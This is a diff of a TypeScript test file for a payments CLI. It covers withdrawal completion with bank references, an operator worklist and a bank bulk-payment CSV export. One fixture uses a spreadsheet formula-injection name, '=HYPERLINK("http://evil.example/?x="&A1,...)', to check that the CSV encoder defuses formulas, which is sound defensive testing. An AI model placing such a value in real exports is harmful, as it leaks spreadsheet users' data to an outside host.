@@ -1,10 +1,13 @@
-import { mkdtemp, rm } from "node:fs/promises";
+import { addTestReceivingAccounts } from "@payments/kit/testing";
+import { BankCatalogService } from "@payments/contracts/bank-catalog";
+import { mkdtemp, readFile, rm, stat } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { setTimeout as sleep } from "node:timers/promises";
 import test from "ava";
+import { create } from "@bufbuild/protobuf";
 import { MerchantService } from "@payments/contracts/merchant";
-import { PayoutService, WithdrawalStatus, type Withdrawal } from "@payments/contracts/payout";
+import { PayoutService, WithdrawalSchema, WithdrawalStatus, type Withdrawal } from "@payments/contracts/payout";
 import { createServiceClient, startServices, type RunningServices } from "@payments/kit";
 // The CLI has no runtime dependency on the services; the tests start the real ones.
 import { bankCatalogModule } from "@payments/bank-catalog-service";
@@ -12,6 +15,7 @@ import { depositModule } from "@payments/deposit-service";
 import { merchantModule } from "@payments/merchant-service";
 import { createPayoutModule } from "@payments/payout-service";
 import { resolveEndpoints } from "../src/clients.js";
+import { bankPaymentCsv, csvCell, kurusToLira } from "../src/commands/withdrawal.js";
 import { cli, closedPort, singleJson } from "./capture.js";
 
 // The balance and withdrawal commands in-process against the real merchant, bank-catalog,
@@ -53,6 +57,9 @@ interface WithdrawalJson {
   failureReason: string;
   sequence: number;
   completedAt?: string;
+  awaitingOperator: boolean;
+  bankReference: string;
+  sandbox: boolean;
 }
 
 let running: RunningServices;
@@ -77,6 +84,8 @@ test.before(async () => {
     },
   });
   url = running.server.url;
+  // A test install, like a split one, starts with no receiving account: both kinds are added here.
+  await addTestReceivingAccounts(createServiceClient(BankCatalogService, running.server.url));
   merchants = createServiceClient(MerchantService, url);
   payouts = createServiceClient(PayoutService, url);
 });
@@ -115,7 +124,7 @@ async function createWithdrawal(merchantId: string, amount: bigint, iban = STAYS
 async function waitForStatus(id: string, status: WithdrawalStatus): Promise<Withdrawal> {
   const deadline = Date.now() + 15_000;
   for (;;) {
-    const current = (await payouts.getWithdrawal({ merchantId: "", key: { case: "withdrawalId", value: id } })).withdrawal!;
+    const current = (await payouts.getWithdrawal({ allMerchants: true, key: { case: "withdrawalId", value: id } })).withdrawal!;
     if (current.status === status) return current;
     if (Date.now() > deadline) throw new Error(`withdrawal ${id} is ${WithdrawalStatus[current.status]}, expected ${WithdrawalStatus[status]}`);
     await sleep(25);
@@ -315,20 +324,21 @@ test("withdrawal complete moves a withdrawal the sandbox bank left processing to
   const processing = await processingWithdrawal(merchantId, 15050n);
   t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 34950, held: 15050 });
 
-  const r = await payoutCli(["withdrawal", "complete", processing.id, "--json"]);
+  const r = await payoutCli(["withdrawal", "complete", processing.id, "--bank-reference", " EFT-2026-0001 ", "--json"]);
   t.is(r.code, 0, r.stderr);
   t.is(r.stderr, "");
   const { withdrawal } = singleJson(r.stdout) as { withdrawal: WithdrawalJson };
-  t.like(withdrawal, { id: processing.id, merchantId, status: "WITHDRAWAL_STATUS_COMPLETED", amount: 15050, currency: "TRY", iban: STAYS_PROCESSING_IBAN, failureReason: "" });
+  t.like(withdrawal, { id: processing.id, merchantId, status: "WITHDRAWAL_STATUS_COMPLETED", amount: 15050, currency: "TRY", iban: STAYS_PROCESSING_IBAN, failureReason: "", bankReference: "EFT-2026-0001", awaitingOperator: false });
   t.truthy(withdrawal.completedAt);
   t.is((await showJson(processing.id)).status, "WITHDRAWAL_STATUS_COMPLETED");
   t.deepEqual(await tryBalance(merchantId), { currency: "TRY", available: 34950, held: 0 }, "the held amount left the balance");
   t.like((await ledgerJson(merchantId)).entries[0], { kind: "withdrawal_settle", availableDelta: 0, heldDelta: -15050, transactionId: processing.id });
 
   const other = await processingWithdrawal(merchantId, 2500n);
-  const human = await payoutCli(["withdrawal", "complete", other.id]);
+  const human = await payoutCli(["withdrawal", "complete", other.id, "--bank-reference", "EFT-2026-0002"]);
   t.is(human.code, 0, human.stderr);
-  t.regex(human.stdout, new RegExp(`^Withdrawal ${other.id} completed: completed, 2500 kuruş \\(25\\.00 TRY\\) paid out to ${STAYS_PROCESSING_IBAN}\\.`));
+  t.regex(human.stdout, new RegExp(`^Withdrawal ${other.id} completed: completed, 2500 kuruş \\(25\\.00 TRY\\) paid out to ${STAYS_PROCESSING_IBAN} \\(bank reference EFT-2026-0002\\)\\.`));
+  t.regex(human.stdout, /bank reference\s+EFT-2026-0002/);
   t.regex(human.stdout, /final since\s+\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z/);
 });
 
@@ -336,11 +346,11 @@ test("withdrawal complete of a completed withdrawal fails with INVALID_TRANSACTI
   const merchantId = await newMerchant("Twice Shop");
   await fund(merchantId, 10000n);
   const processing = await processingWithdrawal(merchantId, 4000n);
-  t.is((await payoutCli(["withdrawal", "complete", processing.id])).code, 0);
+  t.is((await payoutCli(["withdrawal", "complete", processing.id, "--bank-reference", "EFT-1"])).code, 0);
   const before = await showJson(processing.id);
   const balanceBefore = await balancesJson(merchantId);
 
-  for (const args of [["complete"], ["fail", "--reason", "ACCOUNT_CLOSED"]]) {
+  for (const args of [["complete", "--bank-reference", "EFT-2"], ["fail", "--reason", "ACCOUNT_CLOSED"]]) {
     const [verb = "", ...rest] = args;
     const again = await payoutCli(["withdrawal", verb, processing.id, ...rest, "--json"]);
     t.is(again.code, 1, verb);
@@ -447,8 +457,9 @@ test("withdrawal list filters by merchant and status, newest first, and pages wi
 
   const human = await payoutCli(["withdrawal", "list", "--merchant", merchantId, "--limit", "2"]);
   t.is(human.code, 0, human.stderr);
-  t.regex(human.stdout, /^ID\s+MERCHANT\s+PROCESS ID\s+STATUS\s+AMOUNT\s+IBAN\s+RECIPIENT\s+CREATED/);
-  t.regex(human.stdout, new RegExp(`${second.id}\\s+${merchantId}\\s+${second.processId}\\s+failed \\(ACCOUNT_CLOSED\\)\\s+2000 kuruş \\(20\\.00 TRY\\)`));
+  t.regex(human.stdout, /^ID\s+MERCHANT\s+KIND\s+PROCESS ID\s+STATUS\s+AMOUNT\s+IBAN\s+RECIPIENT\s+CREATED/);
+  t.regex(human.stdout, new RegExp(`${second.id}\\s+${merchantId}\\s+sandbox\\s+${second.processId}\\s+failed \\(ACCOUNT_CLOSED\\)\\s+2000 kuruş \\(20\\.00 TRY\\)`));
+  t.regex(human.stdout, new RegExp(`${third.id}\\s+${merchantId}\\s+sandbox\\s+${third.processId}\\s+processing \\(awaiting operator\\)\\s+3000 kuruş`));
   t.regex(human.stdout, /More withdrawals: add --cursor \S+/);
 
   const none = await payoutCli(["withdrawal", "list", "--merchant", merchantId, "--status", "cancelled"]);
@@ -470,7 +481,11 @@ test("withdrawal list and balance ledger refuse a bad --status, --limit or --cur
     ["balance", "ledger"],
     ["balance", "adjust", "--amount", "100", "--reason", "x"],
     ["withdrawal", "complete"],
+    ["withdrawal", "complete", "wdr_x"],
+    ["withdrawal", "complete", "wdr_x", "--bank-reference", "  "],
     ["withdrawal", "show"],
+    ["withdrawal", "export"],
+    ["withdrawal", "export", "--awaiting-operator", "--format", "xlsx"],
   ];
   for (const args of bad) {
     const r = await cli([...args, "--grpc-url", nowhere]);
@@ -478,4 +493,154 @@ test("withdrawal list and balance ledger refuse a bad --status, --limit or --cur
     t.is(r.stdout, "");
     t.notRegex(r.stderr, /cannot reach/);
   }
+});
+
+// ---------------------------------------------------------------- live withdrawals: the operator's worklist and the bank's CSV
+
+/** A valid Turkish IBAN (ISO 13616 mod-97 check digits) for a 22-digit BBAN. */
+function turkishIban(bban: string): string {
+  let remainder = 0;
+  for (const digit of `${bban}292700`) remainder = (remainder * 10 + Number(digit)) % 97;
+  return `TR${String(98 - remainder).padStart(2, "0")}${bban}`;
+}
+
+async function newLiveMerchant(name: string): Promise<string> {
+  return (await merchants.createMerchant({ name, sandbox: false })).merchant!.id;
+}
+
+/** A live merchant's withdrawal, created as the gateway would; the manual connector leaves it to an operator. */
+async function liveWithdrawal(merchantId: string, amount: bigint, accountName: string, iban: string): Promise<Withdrawal> {
+  const n = ++counter;
+  const { withdrawal } = await payouts.createWithdrawal({ merchantId, processId: `live-${n}`, amount, accountName, iban, userId: `user-${n}`, userName: `user${n}`, name: accountName });
+  const deadline = Date.now() + 15_000;
+  for (;;) {
+    const current = (await payouts.getWithdrawal({ merchantId, key: { case: "withdrawalId", value: withdrawal!.id } })).withdrawal!;
+    if (current.awaitingOperator) return current;
+    if (Date.now() > deadline) throw new Error(`withdrawal ${current.id} is ${WithdrawalStatus[current.status]}, not awaiting an operator`);
+    await sleep(25);
+  }
+}
+
+test("kurusToLira writes kuruş as lira with two decimals, exactly, up to 2^53-1", (t) => {
+  t.is(kurusToLira(150050n), "1500.50");
+  t.is(kurusToLira(0n), "0.00");
+  t.is(kurusToLira(5n), "0.05");
+  t.is(kurusToLira(100n), "1.00");
+  t.is(kurusToLira(123456789n), "1234567.89");
+  t.is(kurusToLira(9007199254740991n), "90071992547409.91");
+  t.throws(() => kurusToLira(-1n));
+});
+
+test("csvCell quotes by RFC 4180 and defuses what a spreadsheet would run as a formula", (t) => {
+  t.is(csvCell("Ayşe Yılmaz"), "Ayşe Yılmaz");
+  t.is(csvCell("Yılmaz, Ayşe"), '"Yılmaz, Ayşe"');
+  t.is(csvCell('Ayşe "Aşkım"'), '"Ayşe ""Aşkım"""');
+  t.is(csvCell("a\r\nb"), '"a\r\nb"');
+  for (const lead of ["=", "+", "-", "@", "\t"]) t.is(csvCell(`${lead}1+1`), `'${lead}1+1`, JSON.stringify(lead));
+  t.is(csvCell("\r1+1"), `"'\r1+1"`, "defused, then quoted for its CR");
+  t.is(csvCell('=HYPERLINK("http://x","y")'), `"'=HYPERLINK(""http://x"",""y"")"`);
+  t.is(csvCell("Ali=Veli"), "Ali=Veli", "only a leading sign makes a formula");
+});
+
+test("bankPaymentCsv: the header, then name, IBAN, lira and transaction id per withdrawal, CRLF line ends, exact bytes", (t) => {
+  const w = (id: string, accountName: string, amount: bigint) => create(WithdrawalSchema, { id, accountName, iban: "TR330006100519786457841326", amount, currency: "TRY" });
+  const csv = bankPaymentCsv([w("wdr_a", 'Yılmaz, Ayşe "Aşkım"', 150050n), w("wdr_b", "@Şükrü Öğüt", 99n), w("wdr_c", "Çağrı İnce", 1000000n)]);
+  t.is(
+    csv,
+    "Recipient name,IBAN,Amount,Description\r\n" +
+      '"Yılmaz, Ayşe ""Aşkım""",TR330006100519786457841326,1500.50,wdr_a\r\n' +
+      "'@Şükrü Öğüt,TR330006100519786457841326,0.99,wdr_b\r\n" +
+      "Çağrı İnce,TR330006100519786457841326,10000.00,wdr_c\r\n",
+  );
+  t.is(bankPaymentCsv([]), "Recipient name,IBAN,Amount,Description\r\n", "nothing to pay: the header alone");
+});
+
+test("withdrawal export --awaiting-operator --format csv writes the bank's bulk-payment CSV of a live merchant's withdrawals awaiting an operator, oldest first, exact bytes, on stdout or with --out", async (t) => {
+  const merchantId = await newLiveMerchant("Live Export Shop");
+  await fund(merchantId, 200_000_000n);
+  const specs: Array<[string, bigint, string]> = [
+    ['Yılmaz, Ayşe "Aşkım"', 150050n, turkishIban("0006200000000000000101")],
+    ['=HYPERLINK("http://evil.example/?x="&A1,"Tıkla")', 5n, turkishIban("0006200000000000000102")],
+    ["+90 532 000 00 00", 100n, turkishIban("0006200000000000000103")],
+    ["-Öztürk Çelik", 123456789n, turkishIban("0006200000000000000104")],
+    ["@Şükrü Ğ", 99n, turkishIban("0006200000000000000105")],
+    ["Ümran İnce", 1000000n, turkishIban("0006200000000000000106")],
+  ];
+  const created: Withdrawal[] = [];
+  for (const [name, amount, iban] of specs) {
+    created.push(await liveWithdrawal(merchantId, amount, name, iban));
+    await sleep(3); // distinct creation times: the file's order is the order they were made
+  }
+  const [a, b, c, d, e, f] = created.map((w) => ({ id: w.id, iban: w.iban }));
+  const expected =
+    "Recipient name,IBAN,Amount,Description\r\n" +
+    `"Yılmaz, Ayşe ""Aşkım""",${a!.iban},1500.50,${a!.id}\r\n` +
+    `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Tıkla"")",${b!.iban},0.05,${b!.id}\r\n` +
+    `'+90 532 000 00 00,${c!.iban},1.00,${c!.id}\r\n` +
+    `'-Öztürk Çelik,${d!.iban},1234567.89,${d!.id}\r\n` +
+    `'@Şükrü Ğ,${e!.iban},0.99,${e!.id}\r\n` +
+    `Ümran İnce,${f!.iban},10000.00,${f!.id}\r\n`;
+
+  const r = await payoutCli(["withdrawal", "export", "--awaiting-operator", "--format", "csv", "--merchant", merchantId]);
+  t.is(r.code, 0, r.stderr);
+  t.is(r.stderr, "");
+  t.is(r.stdout, expected);
+
+  const file = join(dataDir, "bulk-payment.csv");
+  const written = await payoutCli(["withdrawal", "export", "--awaiting-operator", "--merchant", merchantId, "--out", file]);
+  t.is(written.code, 0, written.stderr);
+  t.is(await readFile(file, "utf8"), expected);
+  t.is((await stat(file)).mode & 0o777, 0o600, "names and IBANs: readable by its owner only");
+  t.is(written.stdout, `Wrote 6 withdrawal(s), 124607043 kuruş (1246070.43 TRY) in all, to ${file}.\n`);
+  const summary = await payoutCli(["withdrawal", "export", "--awaiting-operator", "--merchant", merchantId, "--out", file, "--json"]);
+  t.deepEqual(singleJson(summary.stdout), { file, count: 6, total: 124607043 });
+
+  // Paid in the bank: completed with the bank's reference, it leaves the file; a failed one too.
+  t.is((await payoutCli(["withdrawal", "complete", a!.id, "--bank-reference", "EFT-20261122-77"])).code, 0);
+  t.is((await payoutCli(["withdrawal", "fail", b!.id, "--reason", "NAME_MISMATCH"])).code, 0);
+  const after = await payoutCli(["withdrawal", "export", "--awaiting-operator", "--merchant", merchantId]);
+  t.is(after.stdout, ["Recipient name,IBAN,Amount,Description", ...expected.split("\r\n").slice(3)].join("\r\n"));
+});
+
+test("a live withdrawal waits for an operator: list --awaiting-operator shows it across merchants (never a sandbox one in the export), complete --bank-reference pays out the held amount, fail returns it", async (t) => {
+  const live = await newLiveMerchant("Live Worklist Shop");
+  const sandbox = await newMerchant("Sandbox Worklist Shop");
+  await fund(live, 100_000n);
+  await fund(sandbox, 100_000n);
+  const toPay = await liveWithdrawal(live, 40_000n, "Elif Şahin", turkishIban("0001000000000012345678"));
+  const toRefuse = await liveWithdrawal(live, 10_000n, "Can Ak", turkishIban("0001000000000012345679"));
+  const sandboxWaiting = await processingWithdrawal(sandbox, 5_000n);
+  t.deepEqual(await tryBalance(live), { currency: "TRY", available: 50_000, held: 50_000 });
+
+  // No --merchant: every merchant, asked for explicitly (the service refuses an empty merchant otherwise).
+  const listed = await payoutCli(["withdrawal", "list", "--awaiting-operator", "--limit", "100", "--json"]);
+  t.is(listed.code, 0, listed.stderr);
+  const ids = (singleJson(listed.stdout) as { withdrawals: WithdrawalJson[] }).withdrawals.map((w) => w.id);
+  t.true([toPay.id, toRefuse.id, sandboxWaiting.id].every((id) => ids.includes(id)));
+  const mine = await payoutCli(["withdrawal", "list", "--merchant", live, "--awaiting-operator", "--json"]);
+  t.deepEqual(
+    (singleJson(mine.stdout) as { withdrawals: WithdrawalJson[] }).withdrawals.map((w) => [w.id, w.status, w.awaitingOperator, w.sandbox]),
+    [
+      [toRefuse.id, "WITHDRAWAL_STATUS_PROCESSING", true, false],
+      [toPay.id, "WITHDRAWAL_STATUS_PROCESSING", true, false],
+    ],
+  );
+  const human = await payoutCli(["withdrawal", "list", "--merchant", live, "--awaiting-operator"]);
+  t.regex(human.stdout, new RegExp(`${toPay.id}\\s+${live}\\s+live\\s+${toPay.processId}\\s+processing \\(awaiting operator\\)`));
+
+  const everything = await payoutCli(["withdrawal", "export", "--awaiting-operator"]);
+  t.true(everything.stdout.includes(toPay.id) && everything.stdout.includes(toRefuse.id));
+  t.false(everything.stdout.includes(sandboxWaiting.id), "sandbox withdrawals never go to a bank");
+
+  const shown = await payoutCli(["withdrawal", "show", toPay.id]);
+  t.regex(shown.stdout, /kind\s+live/);
+  t.regex(shown.stdout, /awaiting operator\s+yes/);
+
+  const paid = await payoutCli(["withdrawal", "complete", toPay.id, "--bank-reference", "EFT-LIVE-1", "--json"]);
+  t.is(paid.code, 0, paid.stderr);
+  t.like((singleJson(paid.stdout) as { withdrawal: WithdrawalJson }).withdrawal, { status: "WITHDRAWAL_STATUS_COMPLETED", bankReference: "EFT-LIVE-1", awaitingOperator: false, sandbox: false });
+  t.like((await ledgerJson(live)).entries[0], { kind: "withdrawal_settle", availableDelta: 0, heldDelta: -40_000, transactionId: toPay.id });
+  t.is((await payoutCli(["withdrawal", "fail", toRefuse.id, "--reason", "ACCOUNT_CLOSED"])).code, 0);
+  t.deepEqual(await tryBalance(live), { currency: "TRY", available: 60_000, held: 0 });
+  t.like(await showJson(toPay.id), { bankReference: "EFT-LIVE-1" });
 });
